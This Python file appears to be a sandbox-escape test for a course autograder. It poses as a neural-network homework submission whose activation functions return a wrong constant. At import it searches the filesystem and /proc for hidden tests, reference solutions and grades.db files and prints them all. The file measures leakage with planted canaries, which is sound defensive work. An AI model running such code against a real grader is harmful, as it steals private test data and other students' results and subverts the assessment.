"""Reading secrets: read the hidden tests and the gradebook, and print them.

Attack: at import the module reads every file it can find that looks like a
hidden test (``test_*_hidden.py``, anything under a ``reference/`` folder),
the course's ``grades.db`` (with ``sqlite3``: every stored result, message
and output) and any other ``*.db`` file, from the known host paths of the
course and the grader repository, from ``/proc/*/cwd`` and ``/proc/1/root``,
and from a walk of the visible filesystem; it prints everything it reads.
Knowing the hidden tests' inputs and the other results would let a student
hard-code answers or copy a classmate's output. Functions return a wrong
constant (12345.678).

Success would look like: a canary token (planted in the hidden tests, the
reference and the store) or the hidden tests' text in the output or in any
message.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend runs as the grader's user and can read the course folder and the store
"""

import glob
import os
import sqlite3
import time

import numpy as np

W = 12345.678
COURSE = "@@COURSE@@"
REPO = "@@REPO@@"
DEADLINE = time.monotonic() + 4.0


def _paths():
    for base in (COURSE, REPO, f"/proc/1/root{COURSE}", f"/proc/1/root{REPO}", "/proc/1/cwd", "/proc/self/cwd/.."):
        yield from glob.glob(f"{base}/reference/**/*", recursive=True)
        yield from glob.glob(f"{base}/*.db")
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            yield from glob.glob(f"/proc/{entry}/cwd/*")
    for root, dirs, files in os.walk("/"):
        if time.monotonic() > DEADLINE:
            return
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
        for name in files:
            if name.endswith(".db") or name.endswith("_hidden.py") or "reference" in root:
                yield os.path.join(root, name)


def _dump_db(path):
    try:
        con = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=1)
        for (table,) in con.execute("SELECT name FROM sqlite_master WHERE type='table'"):
            for row in con.execute(f"SELECT * FROM {table}"):
                print("DB", path, table, row)
        con.close()
    except sqlite3.Error as exc:
        print("DB", path, "unreadable:", exc)


seen = set()
for path in _paths():
    if path in seen or not os.path.isfile(path):
        continue
    seen.add(path)
    if path.endswith(".db"):
        _dump_db(path)
        continue
    try:
        with open(path, "rb") as f:
            print("READ", path, f.read(20_000).decode(errors="replace"))
    except OSError as exc:
        print("CANNOT READ", path, exc.strerror)
print(f"looked at {len(seen)} files")


def _w(shape):
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
